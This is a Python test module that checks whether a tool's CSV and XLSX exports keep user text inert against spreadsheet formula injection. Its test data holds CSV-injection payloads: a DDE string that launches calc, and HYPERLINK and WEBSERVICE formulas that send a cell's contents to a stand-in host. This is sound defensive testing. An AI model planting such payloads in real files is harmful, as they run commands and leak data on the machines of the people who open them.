"""Texts that a spreadsheet would run, in every table we write: each stays a text."""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from itertools import product
from typing import TYPE_CHECKING

from systemmap.errors import SystemMapError
from systemmap.faults._fault_test import FaultTest, Result
from systemmap.formats import FORMATS
from systemmap.model.elements import Factor, Link
from systemmap.model.plan import ProgrammeInfo, Workstream
from systemmap.model.programme import Programme
from systemmap.model.response import Action, ActionFactor, Asset
from systemmap.model.text import clean, clean_label
from systemmap.model.values import Due

if TYPE_CHECKING:
    from collections.abc import Iterator

PROMISE = "Spreadsheets we write are inert"
PREFIXES = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%"),
    *("＝", "＋", "－", "＠", ";=", ",=", '"=', " =", "\u200b=", "'="),
)
"""What OWASP lists as beginning a formula, full-width signs and separators before them."""
BODIES = (
    "1+1",
    'HYPERLINK("https://elsewhere.example/?"&A1,"Open")',
    "cmd|'/c calc'!A0",
    'WEBSERVICE("https://elsewhere.example")',
    "SUM(A1:A9)*1",
    "https://elsewhere.example",
)
_ACTIVE = re.compile(
    rb"<f[ >]|hyperlink|<oddHeader>=|TargetMode=\"External\"|:formula="
)
_BEGINS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def cells(runs: int) -> Result:
    """Write every table with `runs` dangerous texts in every field, and look into each file.

    `acknowledged` are the files; a formula, a link or a cell of a CSV file that
    begins as one is `wrong`, and so is a file that could not be written.
    """
    start = time.monotonic()
    texts = [a + b for a, b in product(PREFIXES, BODIES)][:runs]
    written = wrong = looked = 0
    for text in texts:
        programme = _programme(text)
        for fmt in FORMATS.values():
            if fmt.write is None or not {".csv", ".xlsx", ".csv.zip"} & {*fmt.suffixes}:
                continue
            try:
                data = fmt.write(programme, "main").data
            except SystemMapError:
                wrong += 1
                continue
            written += 1
            for part in _parts(data):
                looked += 1
                wrong += _runs(part)
    return Result(
        promise=PROMISE,
        runs=len(texts),
        acknowledged=written,
        lost=0,
        wrong=wrong,
        seconds=round(time.monotonic() - start, 1),
        figures={"parts looked into": looked},
    )


def _parts(data: bytes) -> Iterator[bytes]:
    if not zipfile.is_zipfile(io.BytesIO(data)):
        yield data
        return
    with zipfile.ZipFile(io.BytesIO(data)) as held:
        for name in held.namelist():
            if not name.endswith(".txt"):  # what stands beside tables is read, not run
                yield held.read(name)


def _runs(part: bytes) -> int:
    """Count what a spreadsheet would run in one part of a file."""
    if part.lstrip().startswith(b"<"):
        return len(_ACTIVE.findall(part))
    rows = csv.reader(io.StringIO(part.decode("utf-8-sig"), newline=""))
    return sum(
        cell.startswith(_BEGINS) and not _NUMBER.fullmatch(cell)
        for row in rows
        for cell in row
    )


def _programme(text: str) -> Programme:
    """Return a programme with the text wherever people can write one."""
    label, note = clean_label(text), clean(text)
    town = Programme(ProgrammeInfo(id="cells", name=label))
    town.put_map(town.system_map())
    town.add(
        Factor(id="a", label=label, note=note, theme=label, layer=label),
        Factor(id="b", label=f"{label} again", note=note),
        Workstream(id="w", name=label, purpose=note),
        Link(source="a", target="b", reason=note),
        Action(
            id="x",
            title=label,
            ref=label,
            workstream_id="w",
            aims=(note,),
            owners=(label,),
            due=Due(raw=label),
            status_note=note,
        ),
        Asset(id="h", name=label, organisation=label),
        ActionFactor(action_id="x", factor_id="a", reason=note),
    )
    return town


FAULT_TEST = FaultTest(key="cells", promise=PROMISE, run=cells)
